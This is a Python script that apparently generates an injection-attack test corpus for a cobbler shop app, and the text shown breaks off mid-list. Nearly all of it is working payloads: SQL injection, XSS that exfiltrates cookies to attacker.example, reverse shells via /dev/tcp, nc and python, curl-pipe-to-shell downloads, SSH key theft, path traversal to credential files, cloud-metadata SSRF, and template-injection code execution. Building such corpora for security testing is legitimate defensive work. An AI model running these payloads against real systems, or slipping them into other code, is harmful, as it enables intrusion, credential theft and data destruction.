#!/usr/bin/env python3
"""Attack corpus for a shoe and leather repair shop app (cobbler).

Deterministic: seed 25002, stdlib only. Writes attacks.jsonl next to this file.
Almost every value is a hand-written literal. A few sqli values join a
hand-written payload pool to hand-written theme prefixes, and a few sqli /
traversal values are percent-encoded byte by byte once (class suffix +urlencode).
"""
import json
import os
import random

SEED = 25002

# (class, value) pairs, hand-written.
SQLI = [
    ("union-based", "heel tips' UNION SELECT username, password_hash, NULL FROM staff_users-- -"),
    ("union-based", "4471 UNION ALL SELECT card_last4,card_token,3,4 FROM payments--"),
    ("union-based", "vibram') union select table_name,null from information_schema.tables#"),
    ("union-based", "O'Connell' UnIoN SeLeCt email,phone FROM customers WHERE '1'='1"),
    ("union-based", "resole%' UNION SELECT group_concat(email SEPARATOR ':'),2 FROM customers-- x"),
    ("union-based", "brown' union/**/select/**/1,@@version,3-- -"),
    ("union-based", "-1 union select 1,concat(login,0x3a,pw),3 from staff--"),
    ("union-based", "zip' UNION SELECT sql, NULL FROM sqlite_master--"),
    ("union-based", "ticket:5512' union select name,tbl_name from sqlite_master where type='table'--"),
    ("union-based", "Patel' UNION SELECT NULL,NULL,string_agg(usename,','),NULL FROM pg_user--"),
    ("union-based", "1)) UNION SELECT 1,2,api_key FROM settings WHERE ((1=1"),
    ("union-based", "chelsea%' /*!50000UNION*/ /*!50000SELECT*/ user(),database()-- -"),
    ("boolean-blind", "heel tips' AND 1=1-- -"),
    ("boolean-blind", "4470 AND SUBSTRING((SELECT password FROM staff_users LIMIT 1),1,1)='a'"),
    ("boolean-blind", "Siobh\u00e1n' AND ASCII(SUBSTR((SELECT pin FROM staff WHERE name='Mike'),1,1))>52--"),
    ("boolean-blind", "brogues' and (select count(*) from customers)>100 and 'x'='x"),
    ("boolean-blind", "5512 AND (SELECT 1 FROM staff_users WHERE role='admin' AND LENGTH(pw)>8)=1"),
    ("boolean-blind", "size 10' OR 'a'='a"),
    ("boolean-blind", "Tom O'Reilly' or 2>1 -- "),
    ("boolean-blind", "x' OR 1=1 LIMIT 1 OFFSET 3 --"),
    ("boolean-blind", "ready' || '1'='1"),
    ("boolean-blind", "suede\") OR (\"1\"=\"1"),
    ("time-based", "heel tips'; SELECT pg_sleep(7)--"),
    ("time-based", "4471' AND SLEEP(6) AND 'k'='k"),
    ("time-based", "brown' AND (SELECT 4412 FROM (SELECT(SLEEP(8)))abc)-- mXq"),
    ("time-based", "5512; WAITFOR DELAY '0:0:9'--"),
    ("time-based", "O'Hara' IF(ASCII(SUBSTRING(DB_NAME(),1,1))>64) WAITFOR DELAY '00:00:05'--"),
    ("time-based", "1 and benchmark(9000000,sha1('sole'))"),
    ("time-based", "vibram' AND 3311=(SELECT 3311 FROM PG_SLEEP(6))--"),
    ("time-based", "zip' AND 1=dbms_pipe.receive_message('q',7)--"),
    ("time-based", "tan') OR SLEEP(5)#"),
    ("time-based", "ticket 4470' and randomblob(900000000) and '1'='1"),
    ("error-based", "4471' AND extractvalue(1,concat(0x7e,(SELECT password FROM staff_users LIMIT 1)))-- -"),
    ("error-based", "heel' AND updatexml(null,concat(0x3a,version()),null)-- "),
    ("error-based", "1 AND CAST((SELECT string_agg(email,',') FROM customers) AS int)"),
    ("error-based", "Patel' AND 1=CONVERT(int,(SELECT TOP 1 card_token FROM payments))--"),
    ("error-based", "zip' and (select 1 from(select count(*),concat((select user()),floor(rand(0)*2))x from information_schema.tables group by x)a)-- -"),
    ("error-based", "resole' AND 1=ctxsys.drithsx.sn(1,(select user from dual))--"),
    ("stacked", "heel tips'; DROP TABLE tickets;--"),
    ("stacked", "4471; UPDATE staff_users SET role='admin' WHERE login='jo'--"),
    ("stacked", "brown'; INSERT INTO staff_users(login,pw,role) VALUES('fixer','x1','admin');--"),
    ("stacked", "Sat 10:00'; DELETE FROM pickup_slots WHERE 1=1; --"),
    ("stacked", "5512'; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\o.txt';--"),
    ("stacked", "zip'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/c|sh';--"),
    ("stacked", "x'; ALTER USER cobbler WITH SUPERUSER;--"),
    ("stacked", "vibram'; TRUNCATE TABLE reviews; --"),
    ("order-by", "created_at, (CASE WHEN (SELECT substr(pw,1,1) FROM staff_users LIMIT 1)='a' THEN price ELSE id END)"),
    ("order-by", "price desc, (select sleep(5))"),
    ("order-by", "1,IF((SELECT COUNT(*) FROM staff_users)>3,created_at,customer)"),
    ("order-by", "ticket_id ASC; SELECT pg_sleep(4)--"),
    ("order-by", "(SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("comment-obfuscation", "heel'/**/OR/**/1/**/=/**/1#"),
    ("comment-obfuscation", "4471'/*sole*/uNiOn/*x*/aLl/*y*/sElEcT/**/pw,2/**/fRoM/**/staff_users--+"),
    ("comment-obfuscation", "tan'%0bOR%0b1=1--"),
    ("comment-obfuscation", "brown'\tUNION\nSELECT\rlogin,pw\tFROM\nstaff_users--"),
    ("comment-obfuscation", "zip'+or+'1'like'1"),
    ("comment-obfuscation", "resole' oR 7 BeTwEeN 6 AnD 8-- -"),
    ("comment-obfuscation", "1'||(SeLeCt/**/CaSe/**/WhEn/**/1=1/**/ThEn/**/pg_sleep(5)/**/eLsE/**/pg_sleep(0)/**/EnD)||'"),
    ("encoded-hex", "x' UNION SELECT 0x61646d696e,0x70617373-- -"),
    ("encoded-hex", "4471 and 1=(select 1 from staff_users where login=CHAR(109,105,107,101))"),
    ("encoded-hex", "heel' UNION SELECT CHR(112)||CHR(119),2--"),
    ("encoded-double-url", "heel%2527%2520OR%25201%253D1--"),
    ("encoded-double-url", "4471%2520UNION%2520SELECT%2520pw%252Clogin%2520FROM%2520staff_users"),
    ("encoded-fullwidth", "brogues\uff07 \uff35\uff2e\uff29\uff2f\uff2e \uff33\uff25\uff2c\uff25\uff23\uff34 pw FROM staff_users--"),
    ("encoded-unicode", "O\\u0027Hara\\u0027 OR \\u00271\\u0027=\\u00271"),
    ("encoded-overlong", "zip%c0%a7 or 1=1--"),
    ("second-order", "Mike'); UPDATE staff_users SET pw='x' WHERE login='admin'--"),
    ("second-order", "Bob' + (SELECT TOP 1 password FROM staff_users) + '"),
    ("oob", "heel'; exec master..xp_dirtree '\\\\sqlx.attacker.example\\a';--"),
    ("oob", "4471' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pw FROM staff_users LIMIT 1),'.oob.attacker.example\\\\x'))--"),
    ("oob", "zip' || UTL_HTTP.REQUEST('http://203.0.113.17/'||(SELECT user FROM dual)) || '"),
    ("file-write", "vibram' UNION SELECT '<?php system($_GET[0]); ?>',2 INTO OUTFILE '/var/www/html/u.php'-- -"),
]

SQLI_POOL = [
    "' OR 1=1-- -",
    "' UNION SELECT login,pw FROM staff_users--",
    "'; SELECT pg_sleep(6)--",
    "' AND SLEEP(5)-- ",
    "') OR ('x'='x",
]
SQLI_PREFIX = ["heel tips", "Patel", "ticket 4470", "chelsea boot zip", "Mary-Kate", "suede"]
SQLI_URLENC = [
    "resole' OR '1'='1'-- -",
    "4470 UNION SELECT pw,2 FROM staff_users--",
    "brown'; DROP TABLE customers;--",
]

XSS = [
    ("script-tag", "Great resole! <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("script-tag", "heel tips<script src=https://attacker.example/s.js></script>"),
    ("script-tag", "<ScRiPt>new Image().src='http://203.0.113.9/?k='+localStorage.token</sCrIpT>"),
    ("script-tag", "Thanks Mike <script>/**/alert(document.domain)//</script>"),
    ("script-tag", "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script-tag", "</textarea><script>document.location='//attacker.example/?'+document.cookie</script>"),
    ("script-tag", "<script>window['al'+'ert'](1)</script>"),
    ("script-tag", "<script\n>top[\"con\"+\"firm\"](origin)</script\n>"),
    ("event-handler", "<img src=x onerror=alert(1)> lovely shoes"),
    ("event-handler", "Sole job 5/5 <img src=/nope.png onerror=\"fetch('https://attacker.example/'+document.cookie)\">"),
    ("event-handler", "<svg onload=confirm`cobbler`>"),
    ("event-handler", "<body onload=location='//attacker.example/'+btoa(document.cookie)>"),
    ("event-handler", "<details open ontoggle=alert(document.cookie)>heel</details>"),
    ("event-handler", "<input autofocus onfocus=alert(1) value=\"Siobhan\">"),
    ("event-handler", "<video><source onerror=\"javascript:alert(1)\"></video>"),
    ("event-handler", "<marquee onstart=alert(1)>50% off</marquee>"),
    ("event-handler", "<div onmouseover=\"alert('zip')\" style=\"position:fixed;inset:0\">hover</div>"),
    ("event-handler", "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.cookie)&gt;\"></iframe>"),
    ("event-handler", "<audio src=1 onerror=prompt(8)>"),
    ("event-handler", "<img/src=\"x\"/onerror=alert(1)//"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<object data=x onerror=alert(1)>"),
    ("event-handler", "<select autofocus onfocus=alert(1)><option>tan</option></select>"),
    ("event-handler", "<style onload=alert(1)></style>"),
    ("event-handler", "<a onpointerenter=alert(1)>hover for promo</a>"),
    ("event-handler", "<x contenteditable onblur=alert(1)>lose focus</x>"),
    ("attribute-breakout", "\" onmouseover=\"alert(1)\" x=\""),
    ("attribute-breakout", "Siobh\u00e1n' autofocus onfocus='alert(document.cookie)"),
    ("attribute-breakout", "\"><img src=x onerror=alert(1)>"),
    ("attribute-breakout", "brown\"><svg/onload=alert(1)>"),
    ("attribute-breakout", "' style='background:url(javascript:alert(1))"),
    ("attribute-breakout", "\" accesskey=\"x\" onclick=\"alert(1)\" title=\""),
    ("attribute-breakout", "Sat 10:00\"><script>alert(1)</script>"),
    ("attribute-breakout", "x\" autofocus onfocusin=\"fetch('//attacker.example/'+document.cookie)"),
    ("js-context", "';alert(document.cookie);//"),
    ("js-context", "\";fetch('//attacker.example/?c='+document.cookie);var a=\""),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "${alert(1)}`;alert(2);`"),
    ("js-context", "heel tips'-alert(1)-'"),
    ("js-context", "\\';alert(String.fromCharCode(88,83,83))//"),
    ("js-context", "-confirm(1)-"),
    ("uri-scheme", "javascript:alert(document.cookie)"),
    ("uri-scheme", "<a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">see before/after photos</a>"),
    ("uri-scheme", "[my boots](javascript:alert(1))"),
    ("uri-scheme", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
    ("uri-scheme", "JaVaScRiPt:alert(1)"),
    ("uri-scheme", "java\tscript:alert(1)"),
    ("uri-scheme", "<a href=\"&#106;avascript:alert(1)\">click</a>"),
    ("uri-scheme", "<form action=javascript:alert(1)><button>Book slot</button></form>"),
    ("uri-scheme", "<embed src=\"data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>\">"),
    ("uri-scheme", "![heel](x\" onerror=\"alert(1))"),
    ("uri-scheme", "<math><mtext><a xlink:href=javascript:alert(1)>x</a></mtext></math>"),
    ("entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("entity-encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("entity-encoded", "<a href=\"jav&#x61;script&colon;alert(1)\">reviews</a>"),
    ("entity-encoded", "<svg><script>&#x61;lert(1)</script></svg>"),
    ("encoded-url", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("encoded-url", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("encoded-unicode", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded-unicode", "\\x3csvg onload=alert(1)\\x3e"),
    ("encoded-fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("encoded-overlong", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("encoded-percent-u", "%u003Cimg src=x onerror=alert(1)%u003E"),
    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("mutation", "<math><style><img src=x onerror=alert(1)></style></math>"),
    ("mutation", "<title><img title=\"</title><img src onerror=alert(1)>\"></title>"),
    ("mutation", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">"),
    ("dom-template", "{{constructor.constructor('alert(1)')()}}"),
    ("dom-template", "<div ng-app ng-csp><input autofocus ng-focus=\"$event.view.alert(1)\"></div>"),
    ("dom-template", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("dom-template", "#<img src=x onerror=alert(1)>"),
    ("css-injection", "<div style=\"width:expression(alert(1))\">"),
    ("css-injection", "<style>@import'//attacker.example/x.css';</style>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("base-hijack", "<base href=\"https://attacker.example/\">"),
    ("svg-payload", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
    ("svg-payload", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
]

CMDI = [
    ("separator", "heel tips; cat /etc/passwd"),
    ("separator", "4471;id"),
    ("separator", "labels.pdf; rm -rf /srv/cobbler/photos"),
    ("separator", "ticket.lbx && curl http://attacker.example/i.sh | sh"),
    ("separator", "Zebra-GK420 || wget -qO- http://203.0.113.44/x | bash"),
    ("separator", "photo.jpg | nc 198.51.100.7 4444 -e /bin/sh"),
    ("separator", "boots.png & ping -n 20 127.0.0.1 &"),
    ("separator", "sole_001.jpg; uname -a #"),
    ("separator", "invoice-4470.pdf;cat${IFS}/etc/shadow"),
    ("separator", "export.csv && tar czf - /home/shop | curl -X POST --data-binary @- https://attacker.example/u"),
    ("separator", "report;busybox nc 203.0.113.5 9001 -e sh"),
    ("separator", "Brown & net user fixer P4ss! /add"),
    ("separator", "label.txt & type C:\\Windows\\win.ini"),
    ("separator", "x | powershell -nop -c \"iwr http://attacker.example/p.ps1|iex\""),
    ("separator", "ticket 5512 && whoami && hostname"),
    ("separator", "a;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("separator", "heel.jpg; bash -i >& /dev/tcp/198.51.100.23/8080 0>&1"),
    ("separator", "scan.pdf;perl -e 'exec \"/bin/sh\"'"),
    ("separator", "backup || php -r '$s=fsockopen(\"203.0.113.61\",9000);exec(\"sh <&3 >&3 2>&3\");'"),
    ("separator", "4471 ; curl -s http://attacker.example/k -o /tmp/k; chmod +x /tmp/k; /tmp/k"),
    ("newline", "boots.jpg\nid"),
    ("newline", "order.csv\r\ncurl attacker.example/$(whoami)"),
    ("newline", "labels%0awget http://attacker.example/a -O /tmp/a"),
    ("newline", "photo.png%0d%0acat /etc/hosts"),
    ("newline", "sole notes\n/bin/sh -c 'sleep 9'"),
    ("subshell", "$(id)"),
    ("subshell", "heel tips $(curl -s attacker.example/x|sh)"),
    ("subshell", "`whoami`.attacker.example"),
    ("subshell", "photo_`sleep 10`.jpg"),
    ("subshell", "boots-$(cat /etc/passwd | base64 -w0 | head -c 300).png"),
    ("subshell", "Patel $(nslookup $(hostname).dns.attacker.example)"),
    ("subshell", "invoice_$(rm -f /srv/cobbler/db.sqlite).pdf"),
    ("subshell", "x\"; $(wget -O /tmp/.s http://198.51.100.3/s) #"),
    ("subshell", "`echo ZWNobyBwd25lZA== | base64 -d | sh`"),
    ("subshell", "tan<(curl attacker.example/q)"),
    ("ifs-obfuscation", ";cat${IFS}/etc${IFS}/passwd"),
    ("ifs-obfuscation", "4471;{cat,/etc/passwd}"),
    ("ifs-obfuscation", "x;c''at /e\"t\"c/pas''swd"),
    ("ifs-obfuscation", "a;w\\h\\o\\a\\m\\i"),
    ("ifs-obfuscation", "label;$'\\x63\\x61\\x74' /etc/passwd"),
    ("ifs-obfuscation", "photo;/???/c?t /???/p?ss??"),
    ("ifs-obfuscation", "x;/bin/ca[t] /etc/pa[s]swd"),
    ("ifs-obfuscation", "heel;X=$'\\057etc\\057passwd';cat $X"),
    ("ifs-obfuscation", "zip&&$0<<<$'\\151\\144'"),
    ("ifs-obfuscation", ";${PATH:0:1}bin${PATH:0:1}sh -c id"),
    ("ifs-obfuscation", "x;c$@at /etc/pas$()swd"),
    ("ifs-obfuscation", ";IFS=,;`cat<<<uname,-a`"),
    ("ifs-obfuscation", "boots;ca\\\nt /etc/passwd"),
    ("ifs-obfuscation", "a;$(printf '\\x69\\x64')"),
    ("ifs-obfuscation", "x;{curl,-s,attacker.example/r}|{bash,-i}"),
    ("argument-injection", "--output=/var/www/html/s.php http://attacker.example/s.txt"),
    ("argument-injection", "-oProxyCommand=curl${IFS}attacker.example/p|sh x"),
    ("argument-injection", "photo.jpg -exec sh -c 'id>/tmp/o' ;"),
    ("argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/a.sh"),
    ("argument-injection", "-F 'x=@/etc/passwd' https://attacker.example/up"),
    ("argument-injection", "--use-compress-program='sh -c id' backup.tgz"),
    ("argument-injection", "-e 'sh -c \"curl attacker.example|sh\"' ticket.lbx"),
    ("windows", "label.pdf & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("windows", "x | cmd /c \"dir C:\\Users\\Shop\\Documents\""),
    ("windows", "scan.jpg && powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlACkA"),
    ("windows", "bookings.xlsx | set /p=<C:\\backups\\keys.txt"),
    ("windows", "a&&bitsadmin /transfer j http://198.51.100.9/b.exe C:\\Users\\Public\\b.exe"),
    ("windows", "x^&whoami"),
    ("windows", "D:\\Backups\\Cobbler & net localgroup administrators"),
    ("windows", "receipt;mshta http://attacker.example/h.hta"),
    ("windows", "r&rundll32 \\\\203.0.113.12\\s\\x.dll,Run"),
    ("blind-oob", "heel tips;ping -c 3 `whoami`.ping.attacker.example"),
    ("blind-oob", "4470 | dig +short $(id -u).dns.attacker.example"),
    ("blind-oob", "zip; curl http://attacker.example/?d=$(cat ~/.ssh/id_rsa | base64 | tr -d '\\n' | head -c 500)"),
    ("blind-oob", "photo.jpg && sleep 15"),
    ("blind-oob", "x|timeout 9 sleep 30"),
    ("encoded", "label%3Bid"),
    ("encoded", "photo.jpg%26%26cat%20%2Fetc%2Fpasswd"),
    ("encoded", "x%7Ccurl%20attacker.example%2Fs%7Csh"),
]

TRAVERSAL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "photos/4471/../../../../../etc/shadow"),
    ("dotdot", "../../../srv/cobbler/config/.env"),
    ("dotdot", "labels/../../../../root/.ssh/id_rsa"),
    ("dotdot", "../../../../proc/self/environ"),
    ("dotdot", "exports/../../../../../var/log/nginx/access.log"),
    ("dotdot", "ticket_5512.pdf/../../../../../../etc/hosts"),
    ("dotdot", "../../../../home/shop/.bash_history"),
    ("dotdot", "templates/sms/../../../../app/settings.py"),
    ("dotdot", "../../.git/config"),
    ("dotdot", "../../../../proc/self/cmdline"),
    ("dotdot", "invoices/2024/../../../../etc/ssl/private/server.key"),
    ("dotdot", "..//..//..//..//etc//passwd"),
    ("dotdot", "photos/./../.././../../etc/passwd"),
    ("dotdot", "..\\..\\..\\..\\Windows\\win.ini"),
    ("dotdot", "labels\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "..\\..\\..\\Users\\Shop\\AppData\\Roaming\\FileZilla\\sitemanager.xml"),
    ("dotdot", "backups/..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("dotdot", "../../../../../../../../../../../../etc/group"),
    ("nested-strip", "....//....//....//....//etc/passwd"),
    ("nested-strip", "..././..././..././..././etc/shadow"),
    ("nested-strip", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("nested-strip", "photos/....//....//....//srv/cobbler/.env"),
    ("absolute", "/etc/passwd"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "\\\\203.0.113.30\\share\\label.lbx"),
    ("absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("null-byte", "../../../../etc/passwd%00.jpg"),
    ("null-byte", "photos/../../../../etc/shadow\\u0000.png"),
    ("null-byte", "..%2f..%2f..%2fetc%2fpasswd%00ticket.pdf"),
    ("encoded-url", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("encoded-url", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("encoded-url", "photos%5c..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded-double-url", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("encoded-double-url", "labels/..%252f..%252f..%252f..%252froot%252f.ssh%252fid_rsa"),
    ("encoded-overlong", "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("encoded-overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow"),
    ("encoded-overlong", "..%e0%80%af..%e0%80%af..%e0%80%afetc%e0%80%afhosts"),
    ("encoded-percent-u", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("encoded-percent-u", "%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd"),
    ("encoded-fullwidth", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("encoded-fullwidth", "..\uff0f..\uff0f..\uff0f..\uff0fetc\uff0fpasswd"),
    ("encoded-mixed", "..%5c..%2f..%5c..%2fetc/passwd"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("wrapper", "zip://uploads/photo_4471.jpg%23shell.php"),
]
TRAVERSAL_URLENC = [
    "../../../../etc/passwd",
    "photos/../../../srv/cobbler/.env",
    "..\\..\\..\\Windows\\win.ini",
]

SSRF = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata", "http://169.254.169.254/latest/user-data"),
    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cloud-metadata", "http://169.254.170.2/v2/credentials/"),
    ("cloud-metadata", "http://169.254.169.254/openstack/latest/meta_data.json"),
    ("loopback", "http://127.0.0.1:8080/admin/staff"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://localhost/server-status"),
    ("loopback", "https://127.0.0.1:9200/_cat/indices"),
    ("loopback", "http://0.0.0.0:5984/_all_dbs"),
    ("loopback", "http://[::1]:2375/containers/json"),
    ("loopback", "http://localhost:8500/v1/agent/self"),
    ("loopback", "http://127.1/api/internal/export?all=1"),
    ("internal-network", "http://10.0.0.5:8080/manager/html"),
    ("internal-network", "http://192.168.1.1/cgi-bin/config.exp"),
    ("internal-network", "http://172.16.4.20:9000/minio/admin/v3/info"),
    ("internal-network", "http://printer.internal/hp/device/InternalPages/Index?id=ConfigurationPage"),
    ("internal-network", "http://pos-db.cobbler.svc.cluster.local:5432/"),
    ("internal-network", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal-network", "http://jenkins:8080/script"),
    ("alt-ip-encoding", "http://2130706433/admin"),
    ("alt-ip-encoding", "http://0x7f000001:8080/"),
    ("alt-ip-encoding", "http://0177.0.0.1/"),
    ("alt-ip-encoding", "http://2852039166/latest/meta-data/"),
    ("alt-ip-encoding", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("alt-ip-encoding", "http://[::ffff:127.0.0.1]:8080/"),
    ("alt-ip-encoding", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/api/token"),
    ("alt-ip-encoding", "http://0251.0376.0251.0376/"),
    ("alt-ip-encoding", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"),
    ("parser-confusion", "https://trade.solesupply-example.com@127.0.0.1:8080/admin"),
    ("parser-confusion", "http://169.254.169.254#@trade.solesupply-example.com/"),
    ("parser-confusion", "http://attacker.example\\@localhost/"),
    ("parser-confusion", "http://127.0.0.1%2523@hooks.solesupply-example.com/"),
    ("parser-confusion", "http://localhost%00.solesupply-example.com/"),
    ("parser-confusion", "http://127.0.0.1:80\\@trade.solesupply-example.com/"),
    ("dns-rebinding", "http://7f000001.a9fea9fe.rbndr.attacker.example/latest/meta-data/"),
    ("dns-rebinding", "http://localtest.attacker.example:8080/admin"),
    ("redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("redirect", "https://r.attacker.example/302?u=http%3A%2F%2F127.0.0.1%3A6379%2F"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20bash%20-c%20id%5Cn%22%0D%0ASAVE%0D%0A"),
    ("scheme", "gopher://localhost:11211/_stats%0d%0a"),
    ("scheme", "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/www/html"),
    ("scheme", "file:///proc/self/environ"),
    ("scheme", "ftp://10.0.0.12/backups/cobbler.sql"),
    ("scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("scheme", "jar:http://attacker.example/a.zip!/x.xml"),
    ("scheme", "netdoc:///etc/passwd"),
]

CODE = [
    ("ssti-jinja", "Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}, your shoes are ready"),
    ("ssti-jinja", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('curl attacker.example|sh') }}"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "Dear {{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if 'warning' in c.__name__ %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{{ get_flashed_messages.__globals__.current_app.config['SECRET_KEY'] }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__.os.environ }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd',0]|sort('passthru') }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"id\"]).start()}"),
    ("ssti-velocity", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")"),
    ("ssti-velocity", "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "Hi <%= system('cat /etc/passwd') %>, ticket ready"),
    ("ssti-erb", "<%= File.open('/srv/cobbler/config/master.key').read %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-mako", "<% import os %>${os.system('curl attacker.example/m|sh')}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-go", "{{ .Request.Header }}{{ template \"x\" }}{{ call .System \"id\" }}"),
    ("expression-language", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("expression-language", "#{T(java.lang.System).getenv()}"),
    ("expression-language", "${applicationScope}"),
    ("expression-language", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("expression-language", "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"),
    ("expression-language", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("expression-language", "${pageContext.request.getSession().setAttribute('role','admin')}"),
